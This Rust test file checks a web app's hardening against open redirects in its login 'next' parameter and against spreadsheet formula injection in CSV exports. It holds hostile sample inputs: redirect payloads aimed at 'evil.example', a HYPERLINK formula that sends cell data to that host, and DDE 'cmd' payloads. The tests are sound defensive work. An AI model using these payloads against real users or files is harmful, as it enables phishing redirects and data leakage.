//! Hardening (issue 17) through the router, on SQLite and PostgreSQL:
//! the login's `next`, and the other limits added with it.

use axum::http::StatusCode;
use faro_store::accounts;

mod common;
use common::*;

async fn user_id(site: &Site, email: &str) -> i64 {
    accounts::user_by_email(&site.db.store, email)
        .await
        .unwrap()
        .unwrap()
        .0
        .id
}

#[tokio::test]
async fn login_next_is_a_same_site_path_or_refused() {
    for site in sites().await {
        let uid = user_id(&site, "ed-sena@faro.test").await;
        let refused = [
            "/\t/evil.example",
            "/\n/evil.example",
            "/\r/evil.example",
            "/\x0b/evil.example",
            "/\x0c/evil.example",
            "/\x00/evil.example",
            "/\x7f/evil.example",
            "/\u{85}/evil.example",
            "/ /evil.example",
            " /en/",
            "/en/\u{2028}",
            "//evil.example",
            "/\\evil.example",
            "\\/evil.example",
            "https://evil.example/",
            "javascript:alert(1)",
            "evil.example",
            "/en/x?a=1\n",
        ];
        for next in refused {
            let before = accounts::session_count(&site.db.store, uid).await.unwrap();
            let mut c = Client::new(&site.app);
            // The form never carries a bad `next` further.
            let form = c.get(&format!("/en/login?next={}", enc(next))).await;
            assert_eq!(form.status, StatusCode::OK, "{next:?}");
            assert!(form.body.contains("name=\"next\" value=\"\""), "{next:?}");
            let csrf = c.csrf("/en/login").await;
            let r = c
                .post(
                    "/en/login",
                    &[
                        ("csrf", &csrf),
                        ("email", "ed-sena@faro.test"),
                        ("password", PW),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{next:?}: {}", r.body);
            assert!(r.header("location").is_empty(), "{next:?}");
            assert!(!c.cookies.contains_key("faro_session"), "{next:?}");
            assert_eq!(
                accounts::session_count(&site.db.store, uid).await.unwrap(),
                before,
                "no session for {next:?}"
            );
            assert!(r.body.contains("form"), "the form again: {next:?}");
        }
        for (next, to) in [
            ("/en/account", "/en/account"),
            (
                "/es/observatory?country=UY&page=2",
                "/es/observatory?country=UY&page=2",
            ),
            ("/en/resources/r-1#files", "/en/resources/r-1#files"),
            (
                "/pt/busca?q=educa%C3%A7%C3%A3o",
                "/pt/busca?q=educa%C3%A7%C3%A3o",
            ),
            ("/pt/busca?q=educação", "/pt/busca?q=educa%C3%A7%C3%A3o"),
            ("/en/../es/", "/es/"),
            ("", "/en/"),
        ] {
            let mut c = Client::new(&site.app);
            let csrf = c.csrf("/en/login").await;
            let r = c
                .post(
                    "/en/login",
                    &[
                        ("csrf", &csrf),
                        ("email", "ed-sena@faro.test"),
                        ("password", PW),
                        ("next", next),
                    ],
                )
                .await;
            assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
            assert_eq!(r.header("location"), to, "{next:?}");
            assert!(c.cookies.contains_key("faro_session"));
        }
    }
}

async fn download(site: &Site, path: &str) -> Vec<u8> {
    let mut c = Client::new(&site.app);
    let r = c.get(path).await;
    assert_eq!(r.status, StatusCode::OK, "{path}");
    r.body.into_bytes()
}

/// Every cell of a CSV file, read by the `csv` crate.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn assert_no_formula_cell(name: &str, bytes: &[u8]) {
    for row in cells(bytes) {
        for c in row {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name}: a spreadsheet would run {c:?}"
            );
        }
    }
}

#[tokio::test]
async fn csv_files_for_people_neutralise_formulas_and_import_back_losslessly() {
    use faro_store::changes::Actor;
    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
    for site in sites().await {
        let store = &site.db.store;
        let actor = Actor::new("test", None);
        let cb = faro_domain::observatory::current();
        // A measure, a resource and a course whose texts are formulas.
        let mut m = faro_store::observatory::walk(store, None, 1).await.unwrap()[0].clone();
        m.title_en = EVIL.into();
        m.description_en = "+cmd|' /C calc'!A0".into();
        m.notes = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        m.source_title = "'=already quoted".into();
        m.description_es = "-2+3".into();
        faro_store::observatory::upsert_all(store, std::slice::from_ref(&m), &actor)
            .await
            .unwrap();
        let mut r = faro_store::knowledge::walk(store, None, 1).await.unwrap()[0]
            .resource
            .clone();
        r.title_en = EVIL.into();
        r.description_en = "@cmd".into();
        faro_store::knowledge::upsert_all(store, std::slice::from_ref(&r), &actor)
            .await
            .unwrap();
        let mut course = faro_store::courses::walk(store, None, 1).await.unwrap()[0]
            .course
            .clone();
        course.title_en = EVIL.into();
        course.description_en = "+=1".into();
        faro_store::courses::upsert_all(store, std::slice::from_ref(&course), &actor)
            .await
            .unwrap();

        let measures = download(&site, "/data/measures.csv").await;
        let changes = download(&site, "/data/measures-changes.csv").await;
        let resources = download(&site, "/data/resources.csv").await;
        let courses = download(&site, "/data/courses.csv").await;
        for (n, b) in [
            ("measures.csv", &measures),
            ("measures-changes.csv", &changes),
            ("resources.csv", &resources),
            ("courses.csv", &courses),
        ] {
            assert_no_formula_cell(n, b);
        }
        let all: Vec<String> = cells(&measures).into_iter().flatten().collect();
        assert!(
            all.contains(&format!("'{EVIL}")),
            "OWASP's leading apostrophe"
        );
        assert!(all.contains(&"''=already quoted".to_string()));
        let all: Vec<String> = cells(&changes).into_iter().flatten().collect();
        assert!(all.contains(&format!("'{EVIL}")));

        // Faro's own readers (the imports) undo it exactly.
        let back = faro_formats::measures_csv::read(&measures, cb).unwrap();
        let got = back.iter().find(|x| x.id == m.id).unwrap();
        assert_eq!(got.title_en, EVIL);
        assert_eq!(got.description_en, m.description_en);
        assert_eq!(got.notes, m.notes);
        assert_eq!(got.source_title, m.source_title);
        assert_eq!(got.description_es, m.description_es);
        let back = faro_formats::resources_csv::read(&resources, cb).unwrap();
        assert_eq!(
            back.iter().find(|x| x.id == r.id).unwrap(),
            &r,
            "the resource as stored"
        );
        let back = faro_formats::courses_csv::read(&courses, cb).unwrap();
        let got = back.iter().find(|x| x.id == course.id).unwrap();
        assert_eq!(got.title_en, EVIL);
        assert_eq!(got.description_en, course.description_en);
        // Importing the downloaded files changes nothing.
        let rep = faro_store::knowledge::upsert_all(
            store,
            &faro_formats::resources_csv::read(&resources, cb).unwrap(),
            &actor,
        )
        .await
        .unwrap();
        assert_eq!((rep.created, rep.updated), (0, 0), "resources round trip");
        let rep = faro_store::courses::upsert_all(
            store,
            &faro_formats::courses_csv::read(&courses, cb).unwrap(),
            &actor,
        )
        .await
        .unwrap();
        assert_eq!((rep.created, rep.updated), (0, 0), "courses round trip");

        // The data package says so.
        let dp: serde_json::Value =
            serde_json::from_slice(&download(&site, "/data/datapackage.json").await).unwrap();
        let d = dp["description"].as_str().unwrap();
        assert!(d.contains("OWASP") && d.contains("apostrophe"), "{d}");
    }
}
